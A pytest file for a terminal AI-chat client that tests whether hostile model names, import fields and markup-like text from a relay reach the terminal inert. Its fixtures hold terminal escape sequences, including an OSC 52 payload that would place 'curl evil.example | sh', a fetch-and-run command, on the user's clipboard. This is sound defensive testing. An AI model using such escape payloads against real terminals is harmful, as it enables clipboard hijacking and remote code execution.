"""Hostile text: what a relay, a model, an import file or a prompt holds reaches the terminal inert.

Model names with OSC 52 (clipboard) and OSC 0 (title) sequences and ``\\r\\b`` come over loopback from
tests/rawserver.py's byte-exact server, to `holysheep` subprocesses and to the app under Pilot; text that
looks like Textual markup comes from a prompt, a code fence and an error body; a double Ctrl-C hits a real
`holysheep ask`.
"""

from __future__ import annotations

import json
import signal
import time
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from textual.widgets import OptionList, Static

from holysheep_tui.chat.session import Session
from holysheep_tui.simulator import Pacing, RelaySimulator
from holysheep_tui.tui.app import HolySheepApp
from holysheep_tui.tui.screens.dialogs import ConfirmScreen
from holysheep_tui.tui.screens.model_picker import ModelPicker
from holysheep_tui.tui.widgets.sidebar import HistorySidebar
from tests.rawserver import RawServer, Reply, chunk, sse

# OSC 52 puts "curl evil.example | sh" on the clipboard; OSC 0 sets the window title.
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
TITLE = "\x1b]0;中继已被接管\x1b\\"
C1_TITLE = "\x9d0;标题被改\x9c"  # the same with 8-bit C1 controls
HOSTILE_MODEL = f"kimi-k2{CLIPBOARD}{TITLE}\r\b\b\b\b"
HOSTILE_FINISH = f"length{TITLE}"
HOSTILE_ID = f"恶意模型{CLIPBOARD}{C1_TITLE}"
KEY = {"HOLYSHEEP_API_KEY": "sk-测试密钥-0123456789"}
RAW = ("\x1b", "\x07", "\x08", "\r", "\x9b", "\x9c", "\x9d")


def assert_inert(text: str, what: str) -> None:
    found = [repr(c) for c in RAW if c in text]
    assert not found, f"{what} carries {', '.join(found)} to the terminal: {text!r}"


def models_reply(*ids: str) -> Reply:
    body = {"object": "list", "data": [{"id": i, "object": "model", "owned_by": "中继"} for i in ids]}
    return Reply(headers={"Content-Type": "application/json"}, pieces=[json.dumps(body).encode()])


def hostile_stream(text: str = "你好，这是一个回答。") -> Reply:
    return Reply(
        pieces=sse(chunk(text, model=HOSTILE_MODEL), chunk(finish=HOSTILE_FINISH, model=HOSTILE_MODEL))
    )


# ---- item 1: server strings on the command line ----------------------------------------------------


def test_ask_summary_then_stats_and_history_show_a_hostile_model_name_inert(cli: Any) -> None:
    with RawServer([hostile_stream()]) as srv:
        out = cli("ask", "--base-url", srv.base_url, "-m", "kimi-k2", "你好", env=KEY)
    assert out.returncode == 0, out.stderr
    assert "你好，这是一个回答。" in out.stdout
    assert "kimi-k2" in out.stderr and "finish: length" in out.stderr
    assert_inert(out.stderr, "the ask summary line")
    # The name was kept as sent (metrics, history): it fires again wherever it is shown later.
    stats = cli("stats")
    assert stats.returncode == 0, stats.stderr
    assert "kimi-k2" in stats.stdout
    assert_inert(stats.stdout, "holysheep stats")
    listed = cli("history", "list")
    assert listed.returncode == 0, listed.stderr
    assert "kimi-k2" in listed.stdout
    assert_inert(listed.stdout, "holysheep history list")
    as_json = cli("history", "list", "--json")
    assert_inert(as_json.stdout, "holysheep history list --json")
    assert json.loads(as_json.stdout)[0]["models"] == [HOSTILE_MODEL], "the data itself is kept"


def test_models_lists_hostile_ids_inert_in_the_table_and_in_json(cli: Any) -> None:
    with RawServer([models_reply("kimi-k2", HOSTILE_ID)]) as srv:
        table = cli("models", "--base-url", srv.base_url, env=KEY)
        as_json = cli("models", "--base-url", srv.base_url, "--json", env=KEY)
    assert table.returncode == 0, table.stderr
    assert "恶意模型" in table.stdout and "kimi-k2" in table.stdout
    assert_inert(table.stdout, "holysheep models")
    assert as_json.returncode == 0, as_json.stderr
    assert_inert(as_json.stdout, "holysheep models --json")
    assert [row["id"] for row in json.loads(as_json.stdout)] == ["kimi-k2", HOSTILE_ID]


def test_import_and_history_list_print_a_hostile_id_and_title_inert(cli: Any, tmp_path: Path) -> None:
    moment = "2025-03-01T12:00:00+00:00"
    doc = {
        "schema": "holysheep-tui/conversation",
        "version": 1,
        "conversations": [
            {
                "id": f"{TITLE}\r\b会话",
                "title": f"导入的标题{CLIPBOARD}",
                "created": moment,
                "updated": moment,
                "profile": "holysheep",
                "messages": [
                    {"role": "user", "content": "你好", "created": moment},
                    {"role": "assistant", "content": "你好！", "created": moment, "model": HOSTILE_MODEL},
                ],
            }
        ],
    }
    export = tmp_path / "导出.json"
    export.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    imported = cli("import", str(export))
    assert imported.returncode == 0, imported.stderr
    assert "会话" in imported.stdout
    assert_inert(imported.stdout + imported.stderr, "holysheep import")
    listed = cli("history", "list")
    assert "导入的标题" in listed.stdout and "kimi-k2" in listed.stdout
    assert_inert(listed.stdout, "holysheep history list")


# ---- item 1: server strings in the app ----------------------------------------------------------------


def screen_text(app: HolySheepApp) -> str:
    """The whole screen as drawn now (every glyph a terminal would be sent)."""
    return app.export_screenshot()


async def test_app_shows_hostile_model_names_inert_in_header_sidebar_and_picker(
    make_app: Callable[..., HolySheepApp],
    make_session: Callable[..., Session],
    wait_until: Callable[..., Awaitable[None]],
    send_and_wait: Callable[..., Awaitable[Any]],
    tmp_path: Path,
) -> None:
    with RawServer([models_reply("kimi-k2", HOSTILE_ID), hostile_stream()]) as srv:
        session = make_session(profile="中继", base_url=srv.base_url, key=KEY["HOLYSHEEP_API_KEY"])
        app = make_app(session, store=tmp_path / "history.db")
        async with app.run_test(size=(160, 48), notifications=True) as pilot:
            await wait_until(pilot, lambda: len(app.relay_models) == 2, "the relay's model list")
            answer = await send_and_wait(pilot, "讲讲上下文窗口")
            assert answer.status == "complete"
            await pilot.press("ctrl+b")
            sidebar = app.query_one(HistorySidebar)
            await wait_until(pilot, lambda: sidebar.rows, "the sidebar's conversations")
            await pilot.pause()
            header = str(answer.query_one(".answer-header", Static).render())
            assert header.startswith("kimi-k2")
            assert_inert(header, "the answer header")
            assert_inert(screen_text(app), "the answer header and the sidebar")
            await pilot.press("f2")
            await wait_until(pilot, lambda: isinstance(app.screen, ModelPicker), "the model picker")
            await pilot.pause()
            picker = app.screen.query_one(OptionList)
            labels = [str(picker.get_option_at_index(i).prompt) for i in range(picker.option_count)]
            assert any("恶意模型" in label for label in labels)
            assert_inert("\n".join(labels), "the model picker")
            assert_inert(screen_text(app), "the model picker")


# ---- item 2: markup in text -------------------------------------------------------------------------


def toasts(app: HolySheepApp) -> list[str]:
    """The text of the toasts on screen. Tests run with ``notifications=True``: ``run_test`` hides them by
    default, and drawing one is where markup in it was parsed."""
    return [str(toast.render()) for toast in app.screen.query("Toast")]


async def test_a_models_error_body_with_brackets_is_a_notice_not_a_crash_at_start(
    make_app: Callable[..., HolySheepApp],
    make_session: Callable[..., Session],
    wait_until: Callable[..., Awaitable[None]],
) -> None:
    body = b"No route for GET [/v1/models] \xe8\xb7\xaf\xe7\x94\xb1\xe4\xb8\x8d\xe5\xad\x98\xe5\x9c\xa8"  # 路由不存在
    reply = Reply(status=404, headers={"Content-Type": "text/plain; charset=utf-8"}, pieces=[body])
    with RawServer([reply]) as srv:
        session = make_session(profile="中继", base_url=srv.base_url, key=KEY["HOLYSHEEP_API_KEY"])
        app = make_app(session)
        async with app.run_test(size=(120, 40), notifications=True) as pilot:
            await wait_until(
                pilot, lambda: any("[/v1/models]" in t for t in toasts(app)), "the notice of the failed list"
            )
            assert app.is_running and app.return_code is None
    assert app.return_code in (None, 0)


@pytest.fixture
def bbcode_prompt() -> str:
    return "what does [/b] do in BBCode? 请用中文解释"


@pytest.mark.parametrize("action", ["archive", "delete"])
async def test_archive_or_delete_a_conversation_whose_title_looks_like_markup(
    action: str,
    bbcode_prompt: str,
    make_app: Callable[..., HolySheepApp],
    wait_until: Callable[..., Awaitable[None]],
    send_and_wait: Callable[..., Awaitable[Any]],
    tmp_path: Path,
) -> None:
    app = make_app(store=tmp_path / "history.db")
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await send_and_wait(pilot, bbcode_prompt)
        await pilot.press("ctrl+b")
        sidebar = app.query_one(HistorySidebar)
        await wait_until(pilot, lambda: sidebar.rows, "the stored conversation in the sidebar")
        assert sidebar.rows[0].display_title == bbcode_prompt
        if action == "archive":
            await pilot.press("a")
        else:
            await pilot.press("d")
            await wait_until(pilot, lambda: isinstance(app.screen, ConfirmScreen), "the confirmation")
            await pilot.pause()
            await pilot.press("y")
        done = "Archived" if action == "archive" else "Deleted"
        await wait_until(
            pilot, lambda: any(f"{done} “{bbcode_prompt}”" in t for t in toasts(app)), f"the {action} notice"
        )
        await wait_until(pilot, lambda: not sidebar.rows, "the list without it")
        assert app.is_running


async def test_f5_copies_a_code_block_whose_info_string_looks_like_markup(
    make_app: Callable[..., HolySheepApp],
    make_session: Callable[..., Session],
    wait_until: Callable[..., Awaitable[None]],
    send_and_wait: Callable[..., Awaitable[Any]],
) -> None:
    answer = "下面是代码：\n\n```[/]\nprint('你好')\n```\n"
    stream = Reply(pieces=sse(chunk(answer), chunk(finish="stop")))
    with RawServer([models_reply("kimi-k2"), stream]) as srv:
        session = make_session(profile="中继", base_url=srv.base_url, key=KEY["HOLYSHEEP_API_KEY"])
        app = make_app(session)
        async with app.run_test(size=(120, 40), notifications=True) as pilot:
            await wait_until(pilot, lambda: app.relay_models, "the relay's model list")
            await send_and_wait(pilot, "给我一段代码")
            await pilot.press("f5")
            await wait_until(
                pilot, lambda: any("Copied code block 1 ([/])" in t for t in toasts(app)), "the copy notice"
            )
            assert app.is_running


# ---- item 21: a double Ctrl-C in `ask` ----------------------------------------------------------------


SLOW = Pacing(first_token_delay=0.0, tokens_per_second=25.0, chunk_tokens=2)
PROMPT = "请慢慢讲讲上下文窗口和费用"


@pytest.fixture
def slow_relay(make_simulator: Callable[..., RelaySimulator]) -> Iterator[RelaySimulator]:
    yield make_simulator(pacing=SLOW)


def test_double_ctrl_c_in_ask_stores_everything_printed_as_stopped(
    slow_relay: RelaySimulator,
    tmp_path: Path,
    cli: Any,
    newest_exchange: Callable[[Path], tuple[str, str, str] | None],
) -> None:
    """A long document piped in, then Ctrl-C twice: the second press comes while the first one's answer is
    being priced and stored (estimating a long prompt's tokens takes a moment)."""
    data = tmp_path / "数据"
    document = tmp_path / "长文.txt"
    document.write_text(PROMPT + "。" + "上下文窗口决定了一次能发送多少文字。" * 16000, encoding="utf-8")
    with document.open("rb") as stdin:
        proc = cli.popen(
            "ask", "--base-url", slow_relay.base_url, "-m", "gpt-4.1",
            stdin=stdin, bufsize=0, text=False, env={"HOLYSHEEP_DATA_DIR": str(data)},
        )  # fmt: skip
        assert proc.stdout is not None
        first = proc.stdout.read(30)  # the answer is streaming and being printed
        proc.send_signal(signal.SIGINT)
        time.sleep(0.02)  # a quick second press
        proc.send_signal(signal.SIGINT)
        rest, err = proc.communicate(timeout=60)
    printed = (first + rest).decode()
    prompt, status, text = newest_exchange(data / "history.db") or ("", "", "")
    assert prompt.startswith(PROMPT) and status == "stopped"
    assert printed.rstrip("\n") == text.rstrip("\n"), "what was printed is what was kept"
    assert proc.returncode == 130 and b"Traceback" not in err, err.decode()
